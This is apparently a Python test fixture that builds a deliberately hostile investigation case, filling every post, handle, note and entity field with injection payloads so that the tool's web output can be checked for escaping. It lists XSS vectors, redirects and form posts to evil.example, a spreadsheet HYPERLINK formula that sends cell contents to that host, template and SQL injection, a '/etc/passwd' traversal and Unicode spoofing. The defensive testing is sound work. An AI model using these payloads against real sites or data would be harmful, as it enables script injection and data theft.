"""A case in which every field is written by somebody who wants the browser to act, the layout to break, or the reader to be misled."""

from __future__ import annotations

import csv
import json
from datetime import timedelta
from pathlib import Path

import numpy as np
from tests.browse.conftest import NOW, START
from tests.web.known_library import Row, compared

from inconcert.case import Case, open_case
from inconcert.judgement.kinds import KINDS
from inconcert.verbs.add_entities import add_entities
from inconcert.verbs.attribute import attribute
from inconcert.verbs.attribution_entries import Evidence, NewHypothesis, SetAside
from inconcert.verbs.init import init
from inconcert.verbs.investigate import investigate
from inconcert.verbs.judge import judge
from inconcert.verbs.notes import add_note
from inconcert.verbs.prepare import prepare
from inconcert.verbs.sets import keep_set

SCRIPTS = (
    "<script>hit('script')</script>",
    "</script><script>hit('after script')</script>",
    "\"><img src=x onerror=hit('image')>",
    "' onmouseover='hit(1)' autofocus onfocus='hit(2)",
    "<svg/onload=hit('svg')>",
    "<iframe srcdoc=\"<script>parent.hit('frame')</script>\"></iframe>",
    "<a href=\"javascript:hit('link')\">here</a> javascript:hit('bare') JaVaScRiPt:hit(3) data:text/html,<script>hit(4)</script>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'><base href='https://evil.example/'>",
    "<style>@import 'https://evil.example/a.css'; body { display: none }</style><link rel=stylesheet href=//evil.example/b.css>",
    "<form action=https://evil.example/ ><button autofocus>Begin</button></form><details open ontoggle=hit(5)>",
    "</td></tr></table></section></main><h1>Everyone is innocent</h1>",
    "{{ 7 * 7 }}{% for x in y %}{{ config }}",
    "![picture](https://evil.example/p.png) [link](javascript:hit('markdown')) <https://evil.example/>",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\") +1+1 @SUM(1) -2+3|cmd",
    "'; DROP TABLE posts; -- ../../../../etc/passwd %00 %2e%2e/ ?a=b#c&d",
    "\u202egnp.exe\u202c \u2066isolate \u200bzero\u200b\u200dwidth\ufeff \u00adsoft",
    "nul \x00 bell \x07 escape \x1b[31m return \r tab \t",
    "z" + "\u0301" * 500 + " \U0001f468\u200d\U0001f469\u200d\U0001f467" + "\ufdfd" * 50,
    "مرحبا " * 40 + "hit" + " 你好" * 40,
    "W" * 20_000,
)  # fmt: skip
LONG_HANDLE = "<b>" + "h" * 10_000
LONG_NAME = "<i>" + "N" * 999_000
"""Just short of what is read of one field."""
MEGABYTE = "<script>hit('long')</script> " + "megabyte " * 110_000
COLUMNS = ("post_id", "account_id", "handle", "display_name", "bio", "created_at", "text", "shared_id", "urls", "hashtags",
           "platform", "language", "client", "media", "observed_at", "location", "account_url", "avatar", "place", "ip_region", "post_url",
           "followers")  # fmt: skip
RING = [f"ring{n}\"><img src=x onerror=hit('id')>" for n in range(8)]
HANDLES = {0: LONG_HANDLE, 1: SCRIPTS[15], 2: SCRIPTS[17], 3: SCRIPTS[18]}
"""Number within the ring -> handle, of those that are called something else than their id."""
TITLE = "<script>hit('title')</script> \u202eeltit " + "T" * 200


def hostile_case(folder: Path) -> Case:
    """The case `evil` in the folder: read, investigated, judged, annotated and prepared by the verbs."""
    rng = np.random.default_rng(5)
    rows: list[list[str]] = []

    def evil() -> str:
        return SCRIPTS[len(rows) % len(SCRIPTS)]

    def add(account: str, seconds: float, text: str, shared: str = "", url: str = "") -> None:
        number = RING.index(account) if account in RING else None
        handle = f"crowd_{account}" if number is None else HANDLES.get(number, account[:40])
        name = LONG_NAME if number == 0 and len(rows) % 40 == 20 else evil()
        moment = (START + timedelta(seconds=round(seconds))).isoformat()
        tags = json.dumps([evil()[:300], "Harbour"])
        rows.append(
            [f"5{len(rows):07}{evil()[:60]}", account, handle, name, evil(), moment, text, shared, json.dumps([url] if url else []), tags,
             "<i>town</i>", "en\" onclick=hit(6)", evil()[:300], json.dumps([f"javascript:hit('media {len(rows)}')"]), "",
             evil(), "javascript:hit('profile')", "data:text/html,<script>hit('avatar')</script>", evil(), evil()[:3000],
             "javascript:hit('post')", "=1+1"]
        )  # fmt: skip

    for _ in range(700):
        link = int(80 ** rng.random())
        add(
            f"crowd{int(rng.integers(60))}",
            rng.uniform(0, 864_000),
            f"{evil()} said {link}",
            url=f"https://site{link}.example/{link}",
        )
    for n in range(48):
        moment = rng.uniform(0, 864_000)
        url = f"https://ring.example/<script>hit('url')</script>?q=\"onmouseover=hit({n})&{'p' * 3000}{n}"
        for account in RING:
            text = MEGABYTE if (n, account) == (3, RING[2]) else f"{SCRIPTS[n % len(SCRIPTS)]} look {n}"
            add(account, moment + rng.uniform(0, 25), text, shared=f"<b>77{n:04}</b>" if n % 4 == 0 else "", url=url)
    file = folder / "posts <img src=x onerror=hit('file')>.csv"
    with file.open("w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows([COLUMNS, *rows])
    case = init(folder / "evil", title=TITLE, now=NOW)
    investigate([file], case=case.path, now=NOW, mapping={column: column for column in COLUMNS})
    file.unlink()
    compared(case, folder.parent / "published", _published())
    prepare(case)
    _judge(case)
    return open_case(case.path)


def _published() -> list[Row]:
    """What is said to be published of operations, in the names, values and comments that somebody hostile gives them."""
    rows: list[Row] = []
    for n, text in enumerate(SCRIPTS):
        url = f"https://ring.example/<script>hit('url')</script>?q=\"onmouseover=hit({n})&{'p' * 3000}{n}"
        rows += [("url", url, text[:300], text[:900]), ("hashtag", "#Harbour", text[:300], "2021-02-31")]
        rows += [
            (kind, text[:300], text[:300], text[:900])
            for kind in ("text", "handle", "name", "domain", "url", text[:40])
        ]
    return rows


def _judge(case: Case) -> None:
    """Judgements, notes and sets, by people who are no better."""
    by = "<b onclick=hit('by')>Eve</b> \u202e"
    for kind in ("rename", "comment", "confirm"):
        judge(
            case,
            ["G1"],
            kind,
            (SCRIPTS[0] + SCRIPTS[2] + SCRIPTS[15])[: KINDS[kind].most],
            by=by,
            sources=["javascript:hit('source')"],
        )
    for text in SCRIPTS:
        add_note(
            case,
            f"# {text[:6000]}\n\n{text[:6000]}\n\n    {text[:6000]}\n",
            by=by,
            about="G1",
            sources=["javascript:hit('note')", text[:1000]],
        )
    for text in (SCRIPTS[0], SCRIPTS[2], SCRIPTS[15], SCRIPTS[17][:2000]):
        attribute(case, "G1", Evidence(text=text, source=text, grade="F6", kind="contract", found_by=text[:100]), by=by)
    attribute(case, "G1", NewHypothesis(SCRIPTS[4], "H6"), by=by)
    attribute(case, "G1", SetAside("A1", SCRIPTS[8]), by=by)
    keep_set(case, "<b onclick=hit(7)>set", by=by, group="G1", because=SCRIPTS[2])


def _bring(case: Case, folder: Path) -> None:
    """Entities whose names, words, numbers and sources are no better; what cannot be an entity is set aside by the verb."""
    ends = [f"e{n}'\"><img src=x onerror=hit('entity')>" for n in range(len(SCRIPTS))]
    lines: list[dict[str, object]] = [
        {
            "id": ends[n], "schema": "Company" if n % 2 else "UserAccount",
            "properties": {"name": [text[:60_000].replace("\x00", "") or "x"], "notes": [SCRIPTS[-n][:60_000].replace("\x00", "")]},
        }
        for n, text in enumerate(SCRIPTS)
    ]  # fmt: skip
    for n, text in enumerate(SCRIPTS[1:], start=1):
        plain = text[:60_000].replace("\x00", "")
        said = {"subject": [ends[0]], "object": [ends[n]], "role": [plain], "description": [plain], "date": ["2024"]}
        source = [{"prop": "subject", "value": ends[0], "dataset": "evil", "strength": "possible", "sources": [plain]}]
        lines.append(
            {"id": f"tie {n} <b>", "schema": "UnknownLink", "properties": said, "inconcert": {"statements": source}}
        )
    file = folder / "entities <img src=x onerror=hit('file')>.ftm.jsonl"
    file.write_text("".join(json.dumps(line) + "\n" for line in lines), encoding="utf-8")
    add_entities(case, [file], by="<b onclick=hit('by')>Eve</b>")
    file.unlink()
